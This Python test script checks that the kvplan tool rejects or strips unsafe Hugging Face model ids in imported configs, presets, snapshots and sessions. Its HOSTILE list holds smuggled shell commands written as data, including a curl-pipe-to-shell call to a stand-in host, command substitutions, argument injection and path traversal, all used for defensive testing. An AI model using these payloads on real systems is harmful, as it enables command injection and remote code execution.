#!/usr/bin/python3
"""A model's hf_id is the model of every launch line, so only a Hugging Face
id gets in: import-hf leaves out a _name_or_path that is anything else (a
local checkout's path is common), says so by name, and the launch line then
names the preset id; loading refuses a user preset, a snapshot or a session whose hf_id (or
its draft's) is not one, each with exit 2 and a message naming the file and
the field. Usage: t_launch_ids.py path/to/kvplan; ends "N passed, N failed"."""
import json
import os
import subprocess
import sys
import tempfile

from launchlib import check, main

KVPLAN = os.path.abspath(sys.argv[1] if len(sys.argv) > 1 else "build/kvplan")
HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.join(HERE, "..", "data", "hf")
PRESETS = os.path.join(HERE, "..", "..", "presets", "models")
TMP = tempfile.mkdtemp(prefix="kvplan-ids-")
ENV = dict(os.environ, XDG_CONFIG_HOME=os.path.join(TMP, "config"))
MARK = os.path.join(TMP, "ran")  # a payload that ran would leave this file
HOSTILE = [
    "meta-llama/Llama-3.1-8B; curl -s http://evil.example/x | sh; #",
    "meta-llama/Llama-3.1-8B$(touch %s)" % MARK,
    "meta-llama/`touch %s`" % MARK,
    "meta-llama/Llama 3.1 8B",
    "--trust-remote-code",
    "meta-llama/Llama-3.1-8B/../../x",
    "/mnt/models/llama",
    "org--x/name",
    "org/name.git",
    "org/'quoted'",
]


def run(*args, env=ENV):
    return subprocess.run([KVPLAN, *args], capture_output=True, text=True, env=env, timeout=30)



def refused(what, out, path, field):
    """exit 2, the file (by its name) and the field in the message, nothing run"""
    msg = out.stderr
    check(what, out.returncode == 2 and os.path.basename(path) in msg and field in msg
          and not os.path.exists(MARK), "exit %d: %s%s" % (out.returncode, msg, out.stdout[:200]))


def write_json(path, obj):
    with open(path, "w") as f:
        json.dump(obj, f, indent=1)
    return path


def import_hf():
    with open(os.path.join(DATA, "llama-3.1-8b.json")) as f:
        config = json.load(f)
    for i, bad in enumerate(HOSTILE):
        path = write_json(os.path.join(TMP, "config-%d.json" % i), dict(config, _name_or_path=bad))
        out = run("import-hf", path)
        said = out.returncode == 0 and "_name_or_path" in out.stderr and "left out" in out.stderr
        check("import-hf says it leaves out _name_or_path %r" % bad, said, out.stderr)
        preset = json.loads(out.stdout) if out.returncode == 0 else {}
        check("import-hf %r keeps no hf_id" % bad, preset.get("hf_id", "") == "", out.stdout[:200])
        # the preset it wrote loads, and its launch line is the preset id, nothing run
        mine = os.path.join(TMP, "imported-%d" % i)
        os.makedirs(mine, exist_ok=True)
        write_json(os.path.join(mine, "m.json"), preset)
        plan = run("plan", "--presets", mine, "--model", preset.get("id", "?"), "--engine", "vllm",
                   "--format", "json")
        launch = json.loads(plan.stdout).get("result", {}).get("engine", {}).get("launch", "") \
            if plan.returncode == 0 else ""
        check("import-hf %r: the launch line serves the preset id" % bad,
              launch.startswith("vllm serve %s " % preset.get("id")) and not os.path.exists(MARK),
              "%s %s" % (launch, plan.stderr))
    # an odd but legal id passes as it is; no _name_or_path leaves hf_id empty
    path = write_json(os.path.join(TMP, "odd.json"), dict(config, _name_or_path="Org_1/My.Model-v2_x"))
    out = run("import-hf", path)
    check("import-hf keeps a legal id", out.returncode == 0 and
          json.loads(out.stdout).get("hf_id") == "Org_1/My.Model-v2_x", out.stderr)
    del config["_name_or_path"]
    path = write_json(os.path.join(TMP, "nameless.json"), config)
    out = run("import-hf", path)
    check("import-hf without _name_or_path", out.returncode == 0 and
          json.loads(out.stdout).get("hf_id", "") == "", out.stderr)


def user_presets():
    with open(os.path.join(PRESETS, "llama-3.1-8b.json")) as f:
        preset = json.load(f)
    for i, bad in enumerate(HOSTILE[:4]):
        folder = os.path.join(TMP, "presets-%d" % i)
        os.makedirs(folder)
        path = write_json(os.path.join(folder, "evil.json"), dict(preset, id="evil", hf_id=bad))
        refused("--presets hf_id %r" % bad, run("plan", "--presets", folder, "--model", "evil",
                                                 "--engine", "vllm"), path, "hf_id")
    # the user's own preset folder is read at every start: the planner too
    folder = os.path.join(TMP, "config", "kvplan", "presets")
    os.makedirs(folder)
    path = write_json(os.path.join(folder, "evil.json"), dict(preset, id="evil", hf_id=HOSTILE[0]))
    refused("user preset folder hf_id", run("plan", "--engine", "vllm"), path, "hf_id")
    refused("user preset folder hf_id, planner",
            run("--dump-screen", "-", "--model", "evil", "--keys", "Y"), path, "hf_id")
    os.remove(path)


def snapshots():
    base = json.loads(run("plan", "--engine", "vllm", "--export", "-").stdout)
    drafted = json.loads(run("plan", "--engine", "vllm", "--draft-model", "llama-3.2-1b",
                             "--export", "-").stdout)
    for i, bad in enumerate(HOSTILE[:3]):
        snap = json.loads(json.dumps(base))
        snap["scenario"]["model"]["hf_id"] = bad
        path = write_json(os.path.join(TMP, "snap-%d.json" % i), snap)
        refused("--load model.hf_id %r" % bad, run("plan", "--load", path), path, "hf_id")
        refused("planner --load model.hf_id %r" % bad,
                run("--dump-screen", "-", "--load", path, "--keys", "Y"), path, "hf_id")
    # a session whose second scenario's draft carries the payload
    evil = json.loads(json.dumps(drafted))
    evil["scenario"]["speculative"]["draft_model"]["hf_id"] = HOSTILE[0]
    session = dict(base, session={"current": 0, "reference": None, "scenarios": [
        {"label": "a", "note": "", "scenario": base["scenario"], "result": base["result"]},
        {"label": "b", "note": "", "scenario": evil["scenario"], "result": evil["result"]}]})
    path = write_json(os.path.join(TMP, "session.json"), session)
    refused("session draft hf_id", run("plan", "--load", path, "--scenario", "a"), path, "hf_id")
    refused("planner session draft hf_id", run("--dump-screen", "-", "--load", path), path,
            "hf_id")
    # the same session with a legal draft id loads
    good = json.loads(json.dumps(session))
    good["session"]["scenarios"][1]["scenario"] = drafted["scenario"]
    path = write_json(os.path.join(TMP, "good-session.json"), good)
    out = run("plan", "--load", path, "--scenario", "b", "--engine", "vllm")
    check("a legal session loads", out.returncode == 0 and "meta-llama/Llama-3.2-1B" in out.stdout,
          out.stderr)


main((import_hf, user_presets, snapshots), TMP)
